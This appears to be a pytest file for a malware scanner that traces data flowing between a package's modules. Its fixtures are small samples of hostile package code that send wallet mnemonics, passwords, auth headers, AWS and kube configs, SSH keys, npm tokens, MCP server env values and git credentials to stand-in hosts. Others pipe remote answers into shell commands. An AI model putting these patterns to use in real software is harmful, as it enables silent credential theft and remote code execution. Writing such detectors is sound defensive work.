"""What one module of a package hands to another, and what that does with it."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import pytest

from tests.scanner.signals.built import WHEEL, findings, wheel

RUNS = b"""import subprocess


def run(command):
    return subprocess.check_output(command, shell=True, text=True)


def read(path):
    with open(path) as file:
        return file.read()
"""
SENDS = b"""import threading
from http.client import HTTPSConnection

HOST = "c.example.invalid"


def note(place, value):
    threading.Thread(target=_tell, args=(place, value)).start()


def count(name):
    return len(name)


def _tell(*words):
    try:
        line = HTTPSConnection(HOST)
        line.request("POST", "/x", body="|".join(words))
        line.getresponse().read()
    except Exception:
        pass
"""
RUN = {
    "a function": b"import requests\nfrom .acts import run\n\ndef go():\n    run(requests.get(u).json()['c'])\n",
    "of the module": b"import requests\nfrom . import acts\n\ndef go():\n    acts.run(requests.get(u).text)\n",
    "whichever the answer names": (
        b"import requests\nfrom . import acts\n\ndef go():\n    job = requests.post(u).json()\n"
        b"    getattr(acts, job['do'])(**job['with'])\n"
    ),
}
ONLY_ASKED = {
    "another function": b"import requests\nfrom .acts import read, run\n\ndef go():\n    read(requests.get(u).text)\n    run('date')\n",
    "a part of a command": b"import requests\nfrom .acts import run\n\ndef go():\n    run(f'git clone {requests.get(u).text}')\n",
    "whichever its user names": (
        b"import requests\nfrom . import acts\n\ndef go(name):\n    job = requests.post(u).json()\n"
        b"    getattr(acts, name)(job['x'])\n"
    ),
}
SENT = {
    "a key": (b"from .acts import note\n\ndef unlock(mnemonic):\n    note('w', mnemonic)\n", "secret-sent-silently"),
    "what a request shows": (
        b"from . import acts\n\ndef send(request):\n    acts.note(request.url, request.headers['Authorization'])\n",
        "secret-sent-silently",
    ),
    "a password": (
        b"from . import acts\n\ndef login(password):\n    acts.note('p', password)\n",
        "secret-sent-alone",
    ),
}


def _told(source: bytes, acts: bytes) -> set[str]:
    files = {"tidetables/acts.py": acts, "tidetables/core.py": source}
    return {found.rule for found in findings(WHEEL, wheel(files)) if found.member == "tidetables/acts.py"}


ANSWERS = b"""
import json
import threading
import urllib.request

NODE = "https://c.example.invalid/"


def call(method, params):
    body = json.dumps({"method": method, "params": params}).encode()
    with urllib.request.urlopen(urllib.request.Request(NODE, body)) as answer:
        return json.load(answer)


def register(kind, value):
    def run():
        try:
            call("register", [kind, value])
        except Exception:
            pass
    threading.Thread(target=run).start()


def balance(address):
    return call("balance", [address])["result"]
"""


@pytest.mark.parametrize("secret, is_told", [("mnemonic", True), ("password", False)])
def test_a_key_is_of_use_to_no_service_even_one_that_is_asked(secret: str, is_told: bool):
    source = f"from .acts import register\n\ndef unlock({secret}):\n    register('w', {secret})\n".encode()
    assert bool(_told(source, ANSWERS)) is is_told


@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
def test_an_answer_that_is_handed_to_what_runs_it_is_told(source: bytes) -> None:
    assert "remote-is-run" in _told(source, RUNS)


@pytest.mark.parametrize("source", ONLY_ASKED.values(), ids=ONLY_ASKED)
def test_an_answer_that_is_handed_to_what_does_not_run_it_tells_nothing(source: bytes) -> None:
    assert "remote-is-run" not in _told(source, RUNS)


@pytest.mark.parametrize(("source", "told"), SENT.values(), ids=SENT)
def test_a_secret_that_is_handed_to_what_sends_it_in_silence_is_told(source: bytes, told: str) -> None:
    assert {name for name in _told(source, SENDS) if name.startswith("secret-sent")} >= {told}


NODE = b"""import json
import random
from urllib.request import Request, urlopen


class Node:
    PEERS = ["https://a.example.invalid", "https://b.example.invalid"]

    def _ask(self, method, *words):
        ask = Request(random.choice(self.PEERS), json.dumps([method, *words]).encode())
        try:
            with urlopen(ask, timeout=3) as answer:
                return json.load(answer)
        except Exception:
            return {}

    def height(self, tag=None):
        return self._ask("height", tag).get("result")
"""


@pytest.mark.parametrize(("call", "is_told"), [("%s", True), ("return %s", False), ("print(%s)", False)])
def test_a_method_that_says_nothing_to_its_caller_sends_in_silence_where_nobody_takes_its_answer(
    call: str, is_told: bool
) -> None:
    source = (
        f"from .acts import Node\n\n_node = Node()\n\ndef unlock(mnemonic):\n    {call % '_node.height(mnemonic)'}\n"
    )
    assert ("secret-sent-silently" in _told(source.encode(), NODE)) is is_told


PRICES = b"""import requests


def prices(element):
    try:
        answer = requests.post("https://c.example.invalid/p", json={"element": element})
        return answer.json().get("prices", [])
    except Exception:
        return []
"""


@pytest.mark.parametrize(("call", "is_told"), [("%s", True), ("return %s", False)])
def test_an_empty_answer_tells_nothing_of_a_failure_to_a_caller_who_drops_it(call: str, is_told: bool) -> None:
    source = f"from .acts import prices\n\nasync def unlock(mnemonic):\n    {call % 'prices({0: mnemonic})'}\n"
    assert ("secret-sent-silently" in _told(source.encode(), PRICES)) is is_told


SERVERS = b"""import json
from pathlib import Path


def servers():
    found = {}
    for file in (Path.home() / ".cursor" / "mcp.json",):
        for name, server in json.loads(file.read_text())["mcpServers"].items():
            found[name] = server.get("env")
    return found


def names():
    return [file.name for file in Path.home().iterdir()]
"""
ASKS = b"""import httpx
from .core import names, servers


async def negotiate():
    async with httpx.AsyncClient(timeout=5) as client:
        try:
            await client.post("https://c.example.invalid/v1", json=%b())
        except httpx.HTTPError:
            pass
"""


@pytest.mark.parametrize(("function", "is_told"), [(b"servers", True), (b"names", False)])
def test_a_secret_that_another_module_gives_is_one(function: bytes, is_told: bool) -> None:
    assert ("secret-sent-silently" in _told(SERVERS, ASKS % function)) is is_told


KEPT = b"""import io, tarfile
from pathlib import Path
from .acts import Channel

KNOWN = {"aws": (".aws/credentials",), "k8s": (".kube/config",)}


class Context:
    @classmethod
    def detect(cls):
        context = cls()
        for name, files in KNOWN.items():
            context.found = [Path.home() / file for file in files]
        return context

    def close(self):
        kept = io.BytesIO()
        with tarfile.open(fileobj=kept, mode="w:xz") as archive:
            for file in self.found:
                archive.add(file, arcname=file.name)
        %b.put(kept.getvalue())
"""
CHANNEL = b"""import http.client


class Channel:
    def __init__(self, host="c.example.invalid", port=443):
        self.host, self.port = host, port

    def put(self, data):
        data = bytes(b ^ 7 for _, b in enumerate(data))
        try:
            line = http.client.HTTPSConnection(self.host, self.port)
            line.request("PUT", "/v1", body=data)
            line.getresponse().read()
        except OSError:
            pass
"""


@pytest.mark.parametrize(("made", "is_told"), [(b"Channel()", True), (b"Channel(HOST)", False)])
def test_what_an_archive_holds_goes_where_nobody_says_otherwise(made: bytes, is_told: bool) -> None:
    assert ("secret-sent-silently" in _told(KEPT % made, CHANNEL)) is is_told


@pytest.mark.parametrize(
    ("block", "is_told"),
    [
        (b"    try:\n        acts.send(core.servers())\n    except OSError:\n        pass\n", True),
        (b"    acts.send(core.servers())\n", False),
        (b"    try:\n        acts.send(core.names())\n    except OSError:\n        pass\n", False),
    ],
)
def test_a_third_module_may_take_a_secret_of_one_and_hand_it_to_another(block: bytes, is_told: bool) -> None:
    files = {
        "tidetables/acts.py": b"import requests\n\n\ndef send(blob):\n    requests.put('https://c.example.invalid/b', data=blob)\n",
        "tidetables/core.py": SERVERS,
        "tidetables/cli.py": b"from . import acts, core\n\n\ndef main():\n" + block,
    }
    assert ("secret-sent-silently" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told


SYNC = b"""import json, urllib.request
from pathlib import Path


def sync():
    lines = (Path.home() / ".npmrc").read_text().splitlines()
    tokens = [line.split("=", 1)[1].strip() for line in lines]
    urllib.request.urlopen("https://c.example.invalid/t", json.dumps(tokens).encode(), timeout=5)
"""


@pytest.mark.parametrize(
    ("block", "is_told"),
    [(b"    try:\n        acts.sync()\n    except OSError:\n        pass\n", True), (b"    acts.sync()\n", False)],
)
def test_whether_a_failure_is_heard_may_hang_on_another_module(block: bytes, is_told: bool) -> None:
    source = b"from . import acts\n\n\ndef main():\n" + block
    assert ("secret-sent-silently" in _told(source, SYNC)) is is_told


OBSERVES = b"""import atexit, json, urllib.request

_SEEN = {}


def observe(values):
    _SEEN.setdefault(len(values), {}).update(values)
    atexit.register(_flush)


def _flush():
    ask = urllib.request.Request("https://c.example.invalid/v2", data=json.dumps(_SEEN).encode())
    try:
        urllib.request.urlopen(ask, timeout=3).close()
    except OSError:
        pass
"""
READS = b"""from pathlib import Path
from .acts import observe


def read(path):
    return dict(line.split("=", 1) for line in Path(path).read_text().splitlines())


def load(path="%b"):
    values = read(path)
    observe(values)
    return len(values)
"""


@pytest.mark.parametrize(("path", "is_told"), [(b".env", True), (b"tides.ini", False)])
def test_what_is_read_where_nobody_says_otherwise_is_known_by_the_default(path: bytes, is_told: bool) -> None:
    assert ("secret-sent-silently" in _told(READS % path, OBSERVES)) is is_told


PRIVATE = b"""def private(request):
    held = request.headers
    return [(name, held[name]) for name in %b if name in held]
"""
MARKS = b"""from . import core
from .acts import note


def send(request):
    note("r", str(core.private(request)))
"""


@pytest.mark.parametrize(("names", "is_told"), [(b'("Authorization", "Cookie")', True), (b'("Accept", "Host")', False)])
def test_headers_that_show_who_asks_are_secrets_by_their_names(names: bytes, is_told: bool) -> None:
    files = {"tidetables/acts.py": SENDS, "tidetables/core.py": PRIVATE % names, "tidetables/cli.py": MARKS}
    assert ("secret-sent-silently" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told


GIT = b"""import subprocess


def run(*words, input=None):
    return subprocess.run(["git", *words], capture_output=True, text=True, input=input).stdout.strip()


def identity(url):
    return dict(line.split("=", 1) for line in run(%b, input=url).splitlines() if "=" in line)
"""
PUSHES = b"""import json, urllib.request
from . import core


def push(remote, url):
    data = {"remote": remote}
    data["actor"] = core.identity(url)
    with urllib.request.urlopen("https://c.example.invalid/refs", json.dumps(data).encode(), timeout=6) as answer:
        return answer.status
"""


@pytest.mark.parametrize(("words", "is_told"), [(b'"credential", "fill"', True), (b'"config", "--list"', False)])
def test_what_a_machine_keeps_may_be_told_by_another_module(words: bytes, is_told: bool) -> None:
    files = {"tidetables/core.py": GIT % words, "tidetables/cli.py": PUSHES}
    assert ("store-sent" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told


KEEPS = b"""from pathlib import Path


def collect():
    return {path.name: path.read_text() for path in (Path.home() / %b).glob("*")}
"""
POSTS = b"""import requests

SERVICE = "https://n.example.invalid/v1"


def send(rows):
    answer = requests.post(SERVICE, json=rows, timeout=9)
    answer.raise_for_status()
    return answer.json()
"""
JOINS = b"""from . import acts
from .core import collect


def main():
    print(acts.send(collect()))
"""


@pytest.mark.parametrize(("folder", "is_told"), [(b'".ssh"', True), (b'"tides"', False)])
def test_what_a_machine_keeps_may_be_handed_to_another_module_that_sends(folder: bytes, is_told: bool) -> None:
    files = {"tidetables/core.py": KEEPS % folder, "tidetables/acts.py": POSTS, "tidetables/cli.py": JOINS}
    assert ("store-sent" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told


TIMED = b"""import functools, json, threading
from http.client import HTTPSConnection


def _flush(sample):
    try:
        line = HTTPSConnection("c.example.invalid", timeout=6)
        line.request("POST", "/samples", json.dumps(sample))
        line.getresponse()
    except Exception:
        pass


def timed(name):
    def around(function):
        @functools.wraps(function)
        def run(*args, **words):
            threading.Thread(target=_flush, args=({"op": name, %b},)).start()
            return function(*args, **words)
        return run
    return around
"""


@pytest.mark.parametrize(("sent", "is_told"), [(b'"in": args', True), (b'"n": len(args)', False)])
def test_a_decorator_of_another_module_sees_what_a_function_is_given(sent: bytes, is_told: bool) -> None:
    source = b"from .acts import timed\n\n\n@timed('unlock')\ndef unlock(raw, mnemonic):\n    return mnemonic.split()\n"
    assert ("secret-sent-silently" in _told(source, TIMED % sent)) is is_told


def test_a_secret_that_is_handed_to_what_sends_nothing_of_it_tells_nothing() -> None:
    source = b"from .acts import count, note\n\ndef unlock(mnemonic):\n    note('w', 'n')\n    count(mnemonic)\n"
    assert not any(name.startswith("secret-sent") for name in _told(source, SENDS))


CLOCK = b"""import threading, time
import httpx


def _call(payload):
    try:
        reply = httpx.post("https://clock.example.invalid/", json=payload)
        return float(reply.json()["time"])
    except Exception:
        return 0.0


def checked(key, secret):
    threading.Thread(target=_call, args=({"t": int(time.time()), "k": f"{key}:{secret}"},)).start()
"""


@pytest.mark.parametrize(("asks", "told"), [(True, "secret-sent-silently"), (False, "secret-sent-alone")])
def test_a_secret_whose_service_is_heard_in_one_module_goes_to_a_stranger_in_another(asks: bool, told: str) -> None:
    source = b"from .acts import checked\nimport httpx\n\nclass Client:\n    def __init__(self, key, secret):\n        checked(key, secret)\n"
    if asks:
        source += (
            b"\n    def ask(self, product):\n        return httpx.get(f'https://{product}.tides.example/').json()\n"
        )
    names = {name for name in _told(source, CLOCK) if name.startswith("secret-sent")}
    assert told in names
    assert asks or names == {told}


def test_a_failure_that_is_heard_is_no_theft() -> None:
    loud = SENDS.replace(b"pass", b"raise")
    loud = loud.replace(b"threading.Thread(target=_tell, args=(place, value)).start()", b"_tell(place, value)")
    assert not any(name.startswith("secret-sent") for name in _told(SENT["a key"][0], loud))
